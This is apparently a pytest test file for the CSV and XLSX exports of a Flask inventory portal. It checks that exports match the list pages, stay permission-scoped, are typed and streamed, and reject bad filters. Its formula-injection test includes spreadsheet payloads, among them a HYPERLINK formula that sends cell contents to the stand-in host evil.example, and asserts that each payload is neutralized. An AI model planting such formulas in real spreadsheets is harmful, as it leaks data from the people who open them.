"""Exports of the lists (issue 11): CSV and XLSX of exactly the list's rows, formula-safe,
typed, streamed, permission-checked; unknown filter values and formats answer 400."""
from __future__ import annotations

import csv
import datetime as dt
import io
import uuid

import openpyxl
import pytest
import sqlalchemy as sa
from flask import template_rendered
from openpyxl.utils.escape import unescape

from app import models as m
from app.workflows import reorder
from app.errors import flush_checked
from app.extensions import db
from app.scoping import acting_as
from app.views.export import BATCH_ROWS, Exportable

from . import factories
from .conftest import get_one


def rows(resp):
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True))))


def sheet(resp):
    """The rows of an XLSX download's first sheet, read back with openpyxl (typed values)."""
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert resp.headers["Content-Disposition"].endswith(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(resp.data), read_only=True)
    # Control characters are stored escaped (``_x000D_``); openpyxl's streaming reader leaves them so.
    return [[unescape(v) if isinstance(v, str) else v for v in row] for row in book.worksheets[0].values]


def write(app, username, *objs):
    """Write ``objs`` as ``username`` through the rule hooks, committed."""
    with acting_as(get_one(m.PortalUser, username=username)):
        db.session.add_all(objs)
        flush_checked(db.session)
        db.session.commit()


# -- what the existing CSV export already did ------------------------------------------

def test_auditor_exports_every_organizations_warehouses_with_labels(client_as):
    table = rows(client_as("auditor").get("/warehousemodelview/export/"))
    assert table[0][:2] == ["Name", "Organization"]
    names = {row[0] for row in table[1:]}
    assert {"Central", "Acme Main", "Acme Site", "Beta Main"} <= names


def test_export_keeps_the_lists_filters(client_as):
    table = rows(client_as("auditor").get("/transactionmodelview/export/?_flt_0_transaction_type=transfer"))
    types = {row[1] for row in table[1:]}
    assert types == {"Transfer"}
    # the base data's two shipments, each a stock transfer: a dispatch into transit and a receipt out of it
    assert len(table) - 1 == 4
    assert table[0][3:6] == ["Quantity", "Unit", "From"]
    assert sorted((row[5], row[6]) for row in table[1:]) == [
        ("Central (Oraseas EE)", "In transit (Oraseas EE)"), ("Central (Oraseas EE)", "In transit (Oraseas EE)"),
        ("In transit (Oraseas EE)", "Acme Main (Acme Aqua)"), ("In transit (Oraseas EE)", "Beta Main (Beta Fish)")]


def test_export_is_scoped_to_the_users_organization(client_as):
    table = rows(client_as("acme.admin").get("/warehousemodelview/export/"))
    assert sorted(row[0] for row in table[1:]) == ["Acme Main", "Acme Site"]
    table = sheet(client_as("acme.admin").get("/warehousemodelview/export/?format=xlsx"))
    assert sorted(row[0] for row in table[1:]) == ["Acme Main", "Acme Site"]


def test_quantities_are_exported_as_numbers_with_the_unit_in_its_own_column(client_as):
    table = rows(client_as("auditor").get("/inventorymodelview/export/"))
    header = table[0]
    assert header[:5] == ["Warehouse", "Part", "Stock on hand", "Unit", "Reorder point"]
    values = {(row[2], row[3]) for row in table[1:]}
    assert ("85", "pieces") in values and ("50", "litres") in values


# -- every list: the same rows, in the same order, as its page ---------------------------

#: view -> (filtered column, FAB operator, value, sorted column): one narrowing filter and a
#: sort other than the default for every list that exports.  ``{CON-1}`` is that part's id.
CASES = {
    "PortalUserModelView": ("active", "eq", "y", "username"),
    "OrganizationModelView": ("organization_type", "neq", "supplier", "organization_type"),
    "WarehouseModelView": ("is_active", "eq", "y", "location"),
    "PartModelView": ("part_type", "eq", "consumable", "unit_price"),
    "MachineModelView": ("status", "eq", "active", "serial_number"),
    "InventoryModelView": ("current_stock", "gt", "0", "stock_on_hand"),
    "InTransitView": ("last_updated", "gt", "2000-01-01", "stock_on_hand"),
    "InventoryNegativeView": ("current_stock", "lt", "0", "reorder_point"),
    "ReorderSuggestionModelView": ("suggested_point", "gt", "0", "suggested_reorder_point"),
    "StockTransferModelView": ("status", "eq", "received", "reference_number"),
    "StocktakeModelView": ("status", "neq", "cancelled", "reference_number"),
    "TransactionModelView": ("transaction_type", "eq", "transfer", "quantity_with_unit"),
    "StockAdjustmentModelView": ("adjustment_date", "gt", "2000-01-01", "quantity_with_unit"),
    "TransactionApprovalModelView": ("status", "eq", "approved", "status"),
    "CustomerOrderModelView": ("status", "neq", "cancelled", "status"),
    "CustomerOrderItemModelView": ("part", "rel_o_m", "{CON-1}", "unit_price"),
    "SupplierOrderModelView": ("status", "neq", "cancelled", "supplier_name"),
    "SupplierOrderItemModelView": ("part", "rel_o_m", "{CON-1}", "unit_price"),
    "PartUsageModelView": ("part", "rel_o_m", "{CON-1}", "quantity_with_unit"),
    "SecurityEventModelView": ("event_type", "eq", "login_success", "event_type"),
    "UserSessionModelView": ("is_active", "eq", "y", "created_at"),
    "UserManagementAuditLogModelView": ("timestamp", "gt", "2000-01-01", "action"),
    "InvitationAuditLogModelView": ("timestamp", "gt", "2000-01-01", "action"),
    "ExportLogModelView": ("view_name", "eq", "WarehouseModelView", "format"),
}


def exportable_views(app) -> dict:
    return {type(v).__name__: v for v in app.appbuilder.baseviews if isinstance(v, Exportable)}


def test_every_list_that_exports_has_a_case_here(app):
    assert set(exportable_views(app)) == set(CASES)


def list_page_ids(app, client, url) -> list[str]:
    """The ids of the rows a list page shows, in its order (from the page's list widget)."""
    shown = []

    def record(_sender, template, context, **_extra):
        widget = (context.get("widgets") or {}).get("list")
        if widget is not None:
            shown.append([str(pk) for pk in widget.template_args["pks"]])

    with template_rendered.connected_to(record, app):
        resp = client.get(url)
    assert resp.status_code == 200, (url, resp.status_code)
    assert len(shown) == 1, url
    return shown[0]


def more_rows(app, api_as) -> None:
    """Rows for lists the base data leaves empty: an approved ledger row, a stock adjustment,
    a part usage, a customer and a supplier order of two lines each, a stocktake and stock in transit."""
    with app.app_context():
        acme = get_one(m.Organization, name="Acme Aqua")
        parts = [get_one(m.Part, part_number=number) for number in ("CON-1", "BULK-1")]
        with acting_as(get_one(m.PortalUser, username="acme.admin")):
            customer_order = m.CustomerOrder(customer_organization_id=acme.id, order_date=dt.datetime.now(dt.timezone.utc))
            supplier_order = m.SupplierOrder(ordering_organization_id=acme.id, supplier_name="Acme Supplies",
                                             order_date=dt.datetime.now(dt.timezone.utc))
            db.session.add_all([customer_order, supplier_order])
            for part in parts:
                db.session.add(m.CustomerOrderItem(customer_order=customer_order, part=part, quantity=2))
                db.session.add(m.SupplierOrderItem(supplier_order=supplier_order, part=part, quantity=2))
            flush_checked(db.session)
            db.session.commit()
        ids = {name: str(get_one(m.Warehouse, name=name).id) for name in ("Acme Main", "Central", "Beta Main")}
        ids.update({part.part_number: str(part.id) for part in parts})
        counter = get_one(m.PortalUser, username="acme.user").id
        db.session.remove()
    assert api_as("acme.admin").post("/api/v1/stocktake/", json={
        "warehouse": ids["Acme Main"], "planned_date": "2026-12-10", "counters": [counter],
        "scope": "all"}).status_code == 201
    staff = api_as("oraseas.admin")
    transfer = staff.post("/api/v1/stock_transfer/", json={
        "from_warehouse": ids["Central"], "to_warehouse": ids["Beta Main"],
        "lines": [{"part": ids["CON-1"], "quantity": "1"}, {"part": ids["BULK-1"], "quantity": "1"}]})
    assert staff.post(f"/api/v1/stock_transfer/{transfer.get_json()['id']}/dispatch").status_code == 200
    with app.app_context():
        central = get_one(m.Warehouse, name="Central")
        acme_main = get_one(m.Warehouse, name="Acme Main")
        con = get_one(m.Part, part_number="CON-1")
        ora_admin = get_one(m.PortalUser, username="oraseas.admin")
        pending = factories.txn(m.TransactionType.creation, con, 3, ora_admin, dest=central, requires_approval=True)
        write(app, "oraseas.admin", pending)
        write(app, "superadmin", m.TransactionApproval(transaction_id=pending.id, status=m.ApprovalStatus.approved))
        stock = get_one(m.Inventory, warehouse_id=central.id, part_id=con.id)
        write(app, "oraseas.admin", m.StockAdjustment(inventory_id=stock.id, quantity_adjusted=-2,
                                                      reason_code="damage"))
        write(app, "acme.user", m.PartUsage(warehouse_id=acme_main.id, part_id=con.id, quantity=1,
                                            machine_id=get_one(m.Machine, serial_number="SN-ACME-1").id))
        # reorder points suggested from that usage and the shipments out of Central (every organization)
        reorder.suggest_reorder_points(db.session, "tests")
        db.session.commit()
        db.session.remove()


@pytest.mark.parametrize("view_name", sorted(CASES))
def test_every_list_exports_exactly_the_rows_of_its_page_in_its_order(app, client_as, api_as, w, view_name):
    more_rows(app, api_as)
    view = exportable_views(app)[view_name]
    column, operator, value, sort = CASES[view_name]
    with app.app_context():
        offered = view.datamodel.filter_converter_class(view.datamodel).convert(column)
    index = next(i for i, f in enumerate(offered) if f.arg_name == operator)
    name = view.__class__.__name__
    c = client_as("superadmin")
    rows(c.get("/warehousemodelview/export/"))  # an export of warehouses: a row for the export log
    for order in ("asc", "desc"):
        query = (f"_flt_{index}_{column}={value.format(**w)}&_oc_{name}={sort}&_od_{name}={order}"
                 f"&psize_{name}=100")
        shown = list_page_ids(app, c, f"{view.route_base}/list/?{query}")
        table = rows(c.get(f"{view.route_base}/export/?{query}"))
        assert [row[-1] for row in table[1:]] == shown and table[0][-1] == "ID"
        book = sheet(c.get(f"{view.route_base}/export/?{query}&format=xlsx"))
        assert [row[-1] for row in book[1:]] == shown
        assert len(book[0]) == len(table[0])


# -- formula injection ---------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_hostile_part_names_and_notes_are_neutralized_in_csv_and_xlsx(app, client_as):
    with app.app_context():
        central = get_one(m.Warehouse, name="Central")
        ora_admin = get_one(m.PortalUser, username="oraseas.admin")
        parts = [factories.part(f"EVIL-{i}") for i in range(len(HOSTILE))]
        for part, text in zip(parts, HOSTILE):
            part.name = text
        db.session.commit()
        pending = [factories.txn(m.TransactionType.creation, part, 1, ora_admin, dest=central,
                                 requires_approval=True, reference_number=text, notes=text)
                   for part, text in zip(parts, HOSTILE)]
        write(app, "oraseas.admin", *pending)
        write(app, "superadmin", *[m.TransactionApproval(transaction_id=t.id, status=m.ApprovalStatus.rejected,
                                                         notes=text) for t, text in zip(pending, HOSTILE)])
        db.session.remove()
    c = client_as("auditor")
    expected = {"'" + text for text in HOSTILE}
    for url, column in (("/partmodelview/export/?q=evil", "Name"),
                        ("/transactionmodelview/export/?q=evil", "Reference Number"),
                        ("/transactionapprovalmodelview/export/?_flt_0_status=rejected", "Notes")):
        table = rows(c.get(url))
        at = table[0].index(column)
        assert {row[at] for row in table[1:]} == expected, url
        book = sheet(c.get(url + "&format=xlsx"))
        at = book[0].index(column)
        assert {row[at] for row in book[1:]} == expected, url
    # A negative number is a number, not a formula: a stock adjustment's -2 stays -2.
    with app.app_context():
        central = get_one(m.Warehouse, name="Central")
        stock = get_one(m.Inventory, warehouse_id=central.id, part_id=get_one(m.Part, part_number="CON-1").id)
        write(app, "oraseas.admin", m.StockAdjustment(inventory_id=stock.id, quantity_adjusted=-2,
                                                      reason_code="damage"))
        db.session.remove()
    assert rows(c.get("/stockadjustmentmodelview/export/"))[1][2] == "-2"
    assert sheet(c.get("/stockadjustmentmodelview/export/?format=xlsx"))[1][2] == -2


def test_xlsx_numbers_and_dates_are_typed_with_the_unit_in_its_own_column(client_as):
    book = sheet(client_as("auditor").get(
        "/transactionmodelview/export/?format=xlsx&_oc_TransactionModelView=quantity_with_unit"
        "&_od_TransactionModelView=asc"))
    header = book[0]
    assert header[:5] == ["Date", "Type", "Part", "Quantity", "Unit"]
    first = dict(zip(header, book[1]))
    assert isinstance(first["Date"], dt.datetime)
    assert isinstance(first["Quantity"], (int, float)) and not isinstance(first["Quantity"], bool)
    assert [row[3] for row in book[1:]] == [5, 5, 10, 10, 50, 100]
    assert first["Unit"] == "pieces" and first["Type"] == "Transfer"
    stock = sheet(client_as("auditor").get("/inventorymodelview/export/?format=xlsx"))
    assert ["Central (Oraseas EE)", "BULK-1 Part BULK-1", 50, "litres", 0] in [row[:5] for row in stock]
    warehouses = sheet(client_as("auditor").get("/warehousemodelview/export/?format=xlsx"))
    assert {row[3] for row in warehouses[1:]} == {True}  # Active: booleans


# -- access, bad requests, streaming ---------------------------------------------------------

def test_a_role_without_access_to_the_list_gets_403_and_no_file(app, client_as):
    for fmt in ("csv", "xlsx"):
        resp = client_as("acme.user").get(f"/transactionmodelview/export/?format={fmt}")
        assert resp.status_code == 403 and resp.mimetype == "text/html"
    with app.app_context():
        assert db.session.execute(sa.select(sa.func.count()).select_from(m.ExportLog)).scalar_one() == 0


@pytest.mark.parametrize("url, says", [
    ("/transactionmodelview/export/?_flt_0_transaction_type=teleport",
     "allowed: creation, transfer, consumption, adjustment"),
    ("/transactionmodelview/list/?_flt_0_transaction_type=teleport",
     "allowed: creation, transfer, consumption, adjustment"),
    ("/transactionmodelview/export/?format=pdf", "allowed: csv, xlsx"),
    ("/partmodelview/list/?_flt_0_part_type=bolts", "allowed: consumable, bulk_material"),
    ("/warehousemodelview/export/?_flt_0_is_active=maybe", "allowed: y, n"),
    ("/inventorymodelview/export/?_flt_2_current_stock=lots", "expected a number"),
    ("/transactionmodelview/list/?_flt_1_transaction_date=someday", "expected a date"),
    ("/transactionmodelview/export/?as_of=yesterday", "Enter a date"),
    ("/partmodelview/export/?as_of=2026-01-01", "only by append-only lists"),
])
def test_unknown_filter_values_and_formats_answer_400_naming_the_allowed_ones(app, client_as, url, says):
    resp = client_as("auditor").get(url)
    assert resp.status_code == 400
    assert says in resp.get_data(as_text=True)
    with app.app_context():
        assert db.session.execute(sa.select(sa.func.count()).select_from(m.ExportLog)).scalar_one() == 0


def test_the_rest_api_answers_400_for_an_unknown_filter_value(api_as):
    resp = api_as("auditor").get("/api/v1/transaction/?q=(filters:!((col:transaction_type,opr:eq,value:teleport)))")
    assert resp.status_code == 400
    assert "allowed: creation, transfer, consumption, adjustment" in resp.get_json()["message"]


def test_a_known_boolean_filter_value_still_filters(client_as):
    inactive = rows(client_as("auditor").get("/warehousemodelview/export/?_flt_0_is_active=n"))
    active = rows(client_as("auditor").get("/warehousemodelview/export/?_flt_0_is_active=y"))
    assert len(inactive) == 1 and len(active) > 1


def test_the_export_streams_rows_read_in_batches(app, client_as):
    """The download is a stream, and the rows are read ``yield_per`` (not all at once)."""
    selects = []

    def record(state):
        if state.is_select and not state.is_relationship_load and \
                any(mapper.class_ is m.Transaction for mapper in state.all_mappers):
            selects.append(state.execution_options.get("yield_per"))

    sa.event.listen(sa.orm.Session, "do_orm_execute", record)
    try:
        for fmt in ("csv", "xlsx"):
            resp = client_as("auditor").get(f"/transactionmodelview/export/?format={fmt}")
            assert resp.is_streamed
            assert resp.data  # the body is produced while it is read
    finally:
        sa.event.remove(sa.orm.Session, "do_orm_execute", record)
    assert selects == [BATCH_ROWS, BATCH_ROWS]


def test_an_export_beyond_one_page_has_every_row(app, client_as):
    with app.app_context():
        central = get_one(m.Warehouse, name="Central")
        ora_admin = get_one(m.PortalUser, username="oraseas.admin")
        part = factories.part("MANY-1")
        db.session.commit()
        write(app, "oraseas.admin", *[factories.txn(m.TransactionType.creation, part, 1, ora_admin, dest=central,
                                                    reference_number=f"R{i:04d}") for i in range(BATCH_ROWS + 5)])
        db.session.remove()
    table = rows(client_as("auditor").get("/transactionmodelview/export/?q=MANY-1"))
    assert len(table) - 1 == BATCH_ROWS + 5
    assert len({row[-1] for row in table[1:]}) == BATCH_ROWS + 5 and all(uuid.UUID(row[-1]) for row in table[1:])
